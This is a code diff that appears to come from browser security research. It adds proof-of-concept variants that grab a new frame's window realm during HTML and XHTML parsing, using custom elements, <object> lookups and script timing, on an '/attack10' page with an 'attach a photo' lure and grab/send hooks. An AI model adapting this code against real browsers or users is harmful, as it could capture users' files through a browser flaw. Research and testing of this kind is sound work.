@@ -29,7 +29,9 @@ const WAYS = [
   // customizable select
   'scnameditem', 'scattrvalue', 'sctext',
   // the page's HTML
-  'parserformid',
+  'parserformid', 'parserobjectce', 'parseriframece',
+  // an XHTML page in a frame
+  'xhtmlframe', 'xhtmlobjectframe', 'xhtmllateframe',
 ];
 
 const grabbing = `
@@ -95,6 +97,17 @@ const grabbing = `
     document.body.append(face, form);
     window.framesBefore = window.length;
     window.armedFace = true;
+  }
+  // A custom element whose connectedCallback looks a property up on the page's last <object> (Chromium makes its frame then) and reads the newest frame.
+  function defineLookup() {
+    customElements.define('x-lookup', class extends HTMLElement {
+      connectedCallback() {
+        const o = document.querySelector('object');
+        if (o) o.anything;
+        note('x-lookup connected, frames ' + window.length);
+        if (window.length > 0) grab(last(), 'x-lookup connectedCallback during the parse');
+      }
+    });
   }
   function connect(via) {
     const before = window.length;
@@ -212,6 +225,13 @@ const grabbing = `
       const w = last();
       note(via + ': frames ' + had + ' -> ' + window.length + ', newest realm new: ' + !!(w && w.document !== prevDoc) + ', selected ' + sel.selectedIndex);
       if (w && w.document !== prevDoc) grab(w, 'the clone in <selectedcontent> after ' + via);
+    } else if (via === 'xhtmlframe' || via === 'xhtmlobjectframe' || via === 'xhtmllateframe') {
+      // An XHTML page (the XML parser) in a frame: its next script takes the
+      // frame its markup put in before it, and hands it here.
+      const f = document.createElement('iframe');
+      f.src = '/attack10-xhtml?via=' + via.replace('frame', '');
+      f.style.cssText = 'width:60px;height:60px';
+      document.body.append(f);
     } else if (via === 'parserformid') {
       // Done by the page's HTML (early): see picker().
       note('parserformid: frames now ' + window.length);
@@ -228,6 +248,10 @@ function picker(query) {
   else if (via === 'dwadoption' || via === 'dwadoptioncontrol') early = '<b>b<p>p<iframe src="/px/never.gif" style="display:none"></iframe>';
   else if (via === 'dwadoptiona') early = '<a href="#x">a<p>p<iframe src="/px/never.gif" style="display:none"></iframe>';
   // The page's HTML: a frame with id "f" parsed while form#f (appended by a script) comes after it.
+  // The page's HTML: a closed <object> then a custom element, whose connectedCallback looks a property up on the object.
+  else if (via === 'parserobjectce') early = '<script>defineLookup()</script><object type="text/html" data="/px/never.gif" style="width:10px;height:10px"></object><x-lookup></x-lookup>';
+  // The control: a frame then the custom element (its creation makes a microtask checkpoint: the walk runs first).
+  else if (via === 'parseriframece') early = '<script>defineLookup()</script><iframe src="/px/never.gif" style="display:none"></iframe><x-lookup></x-lookup>';
   else if (via === 'parserformid') early = '<div id="wrap"><script>faceAndForm()</script><iframe id="f" src="/px/never.gif" style="display:none"></iframe><script>note("next script sees " + window.length)</script></div>';
   return grabbedPickerPage({ grabbing, via, early });
 }
@@ -258,12 +282,17 @@ function objectNest(query) {
  * script, as the HTML parser does?
  */
 function xhtml(query) {
-  const via = query.get('via') === 'xhtmlobject' ? 'xhtmlobject' : 'xhtml';
+  const via = ['xhtmlobject', 'xhtmllate'].includes(query.get('via')) ? query.get('via') : 'xhtml';
   const frameMarkup = via === 'xhtmlobject'
     ? '<object type="text/html" data="/px/never.gif" style="width:10px;height:10px"></object>'
     : '<iframe src="/px/never.gif" style="display:none"></iframe>';
   const script = (s) => `<script>//<![CDATA[\n${s}\n//]]></script>`;
-  const body = `<button id="open">attach a photo</button><p id="status"></p>${script(grabbing)}${script(send)}${frameMarkup}${script(`note('next script sees ' + window.length); grab(window[window.length - 1], 'the next script of an XHTML page (${via})'); window.ready = true; ${openGrabbedScript}`)}`;
+  const body = `<button id="open">attach a photo</button><p id="status"></p>${script(grabbing)}${script(send)}${frameMarkup}${script(`note('next script sees ' + window.length);
+  // In a frame of an HTML page (the test's file chooser is set there): the realm handed to the top window.
+  const give = (w, how) => (window !== top ? top.grab(w, how) : grab(w, how));
+  if ('${via}' === 'xhtmllate') setTimeout(() => give(window[window.length - 1], 'a task later, in an XHTML page (the control)'), 0);
+  else give(window[window.length - 1], 'the next script of an XHTML page (${via})');
+  window.ready = true; ${openGrabbedScript}`)}`;
   return `<?xml version="1.0" encoding="utf-8"?>\n<html xmlns="http://www.w3.org/1999/xhtml" lang="en"><head><title>/attack10-xhtml</title></head><body>${body}</body></html>`;
 }
 
